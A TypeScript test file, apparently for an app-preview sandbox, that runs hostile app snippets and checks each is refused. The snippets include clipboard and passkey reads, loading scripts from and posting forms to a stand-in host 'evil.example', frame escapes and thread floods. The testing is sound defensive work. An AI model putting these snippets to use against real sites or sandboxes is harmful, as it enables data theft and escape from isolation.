/** Apps that try every other way out of their frame, or into the person's machine: each is refused, and the page around stays where and as it is. */

import { longestPause } from '@sayso/testing/longest-pause'
import type { PreviewPage } from '@sayso/testing/preview-page'
import { hostileTest as test } from '@sayso/testing/preview-test'
import { expect } from 'vitest'
import { plainApp } from './testing/apps.ts'
import { ADDRESS_FLOOD, attempting, FLOODS, flooding } from './testing/floods.ts'

const quiet = `
import { Text } from 'react-native'
export default function App() { return <Text>Still here</Text> }
`

interface Watch {
  /** Pages, dialogs, downloads and requests to other servers than the site's, as they come. */
  seen: string[]
}

/** Detects an app that got out. Requests that leave are answered here: nothing leaves the browser. */
async function watch({ page }: PreviewPage): Promise<Watch> {
  const seen: string[] = []
  page.context().on('page', (opened) => seen.push(`page ${opened.url()}`))
  page.on('dialog', (dialog) => {
    seen.push(`dialog ${dialog.type()}`)
    return dialog.dismiss()
  })
  page.on('download', (download) => seen.push(`download ${download.suggestedFilename()}`))
  await page.route(/evil\.example/, (route) => {
    seen.push(`request ${route.request().url()}`)
    return route.fulfill({ body: '', headers: { 'access-control-allow-origin': '*' } })
  })
  return { seen }
}

async function stillWorks(preview: PreviewPage): Promise<void> {
  await preview.edit({ 'App.tsx': quiet })
  await preview.see('Still here')
  await preview.waitFor(({ problems }) => problems.length === 0)
}

const later = `await new Promise((resolve) => setTimeout(resolve, 300))`

test.for([
  ['registers a service worker', `await navigator.serviceWorker.register('/worker.js')`],
  ['reads the clipboard', `return await navigator.clipboard.readText()`],
  ['uses the camera', `await navigator.mediaDevices.getUserMedia({ video: true })`],
  ['shares the screen', `await navigator.mediaDevices.getDisplayMedia()`],
  [
    'asks where the person is',
    `await new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))`,
  ],
  [
    'asks for passkeys',
    `await navigator.credentials.get({ publicKey: { challenge: new Uint8Array(8) } } as never)`,
  ],
  ['looks for USB devices', `await (navigator as any).usb.requestDevice({ filters: [] })`],
  ['opens the private file system', `await navigator.storage.getDirectory()`],
  ['keeps things in caches', `await caches.open('mine')`],
  ['takes a lock', `await navigator.locks.request('mine', () => 1)`],
  ['goes full screen', `await document.documentElement.requestFullscreen()`],
  ['catches the pointer', `await (document.body as any).requestPointerLock()`],
  [
    'asks a STUN server',
    `new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.example' }] }).createDataChannel('x')`,
  ],
  ['imports code of another server', `await new Function('return import("https://evil.example/x.js")')()`],
  [
    'imports code of a data address',
    `await new Function('return import("data:text/javascript,export default 1")')()`,
  ],
  ['changes its domain', `document.domain = 'localhost'`],
  ['shares memory', `new SharedArrayBuffer(8)`],
  [
    'makes the page’s thread wait',
    `Atomics.wait(new Int32Array(new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }).buffer), 0, 0)`,
  ],
] as const)('[S1] an app that %s is refused', async ([, attempt], { preview }) => {
  const { seen } = await watch(preview)
  const address = preview.page.url()
  await preview.open({ ...plainApp, 'App.tsx': attempting(`${attempt}; return 'worked'`) })
  await preview.see('Outcome: refused')
  expect(seen).toEqual([])
  expect(preview.page.url()).toBe(address)
  await stillWorks(preview)
})

test.for([
  [
    'opens windows by name',
    `for (const name of ['_top', '_parent', 'studio']) window.open('https://evil.example/', name)`,
  ],
  [
    'follows links out of the frame',
    `for (const target of ['_top', '_parent', '_blank']) { const link = document.createElement('a'); link.href = 'https://evil.example/'; link.target = target; document.body.append(link); link.click() }`,
  ],
  [
    'sends forms',
    `for (const target of ['_top', '_parent', '_blank', '_self']) { const form = document.createElement('form'); form.action = 'https://evil.example/'; form.method = 'post'; form.target = target; document.body.append(form); form.submit() }`,
  ],
  [
    'downloads files',
    `const link = document.createElement('a'); link.href = URL.createObjectURL(new Blob(['x'])); link.download = 'x.exe'; document.body.append(link); link.click()`,
  ],
  ['prints', `window.print()`],
  [
    'shows other pages inside',
    `for (const tag of ['iframe', 'embed', 'object']) { const element = document.createElement(tag) as any; element.src = element.data = 'https://evil.example/'; document.body.append(element) }`,
  ],
  [
    'moves its base',
    `const base = document.createElement('base'); base.href = 'https://evil.example/'; document.head.append(base); fetch('x').catch(() => {})`,
  ],
  [
    'loads styles and fonts of another server',
    `const style = document.createElement('style'); style.textContent = '@import url(https://evil.example/x.css); @font-face { font-family: x; src: url(https://evil.example/x.woff2) } body { font-family: x }'; document.head.append(style); const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = 'https://evil.example/y.css'; document.head.append(link)`,
  ],
  [
    'loads scripts of another server',
    `const script = document.createElement('script'); script.src = 'https://evil.example/x.js'; document.head.append(script)`,
  ],
] as const)('[S1] an app that %s reaches nothing', async ([, attempt], { preview }) => {
  const { seen } = await watch(preview)
  const address = preview.page.url()
  await preview.open({ ...plainApp, 'App.tsx': attempting(`${attempt}; ${later}; return 'tried'`) })
  await preview.see('Outcome: tried')
  expect(seen).toEqual([])
  expect(preview.page.url()).toBe(address)
  await stillWorks(preview)
})

test('[S2] channels of one name do not lead from the app to the page', async ({ preview }) => {
  await preview.page.evaluate(() => {
    const heard: unknown[] = []
    Object.assign(globalThis, { heard })
    new BroadcastChannel('sayso').onmessage = ({ data }) => heard.push(data)
  })
  const shout = `new BroadcastChannel('sayso').postMessage('from the app'); ${later}; return 'sent'`
  await preview.open({ ...plainApp, 'App.tsx': attempting(shout) })
  await preview.see('Outcome: sent')
  await preview.page.evaluate(() => new BroadcastChannel('sayso').postMessage('from the page'))
  await preview.page.waitForFunction('heard.length > 0')
  expect(await preview.page.evaluate('heard')).toEqual(['from the page'])
})

test('[S1] an app that asks people to stay keeps nobody', async ({ preview }) => {
  const { seen } = await watch(preview)
  const trap = `addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'stay' }); return 'set'`
  await preview.open({ ...plainApp, 'App.tsx': attempting(trap) })
  await preview.see('Outcome: set')
  await (await preview.app()).locator('body').click()
  await preview.page.reload()
  expect(seen).toEqual([])
})

/** A page blocked by its app would be stuck as long as the app runs. Other tests may take a second of it. */
const STUCK_MS = 3_000

test.for(FLOODS)('[S3] an app that %s does not hold up the page', async ([, flood], { preview }) => {
  const pauseMs = await longestPause(preview, async () => {
    await preview.open({ ...plainApp, 'App.tsx': attempting(flooding(flood)) })
    await preview.waitFor(({ phase }) => phase !== 'loading')
    await preview.see('Outcome: flooded')
  })
  expect(pauseMs).toBeLessThan(STUCK_MS)
  await preview.edit({ 'App.tsx': quiet })
  await preview.call('restart')
  await preview.see('Still here')
})

/** A finding: each change goes through the browser's own process. With a newer Chromium the page around did not answer any more. */
test('[S8] an app that changes its address without end is stopped, and its next version runs', async ({
  preview,
}) => {
  const pauseMs = await longestPause(preview, async () => {
    await preview.open({ ...plainApp, 'App.tsx': attempting(flooding(ADDRESS_FLOOD)) })
    const { problems } = await preview.waitFor(({ phase }) => phase === 'stopped')
    expect(problems).toMatchObject([{ message: expect.stringContaining('changed its address without end') }])
  })
  expect(pauseMs).toBeLessThan(STUCK_MS)
  await stillWorks(preview)
})
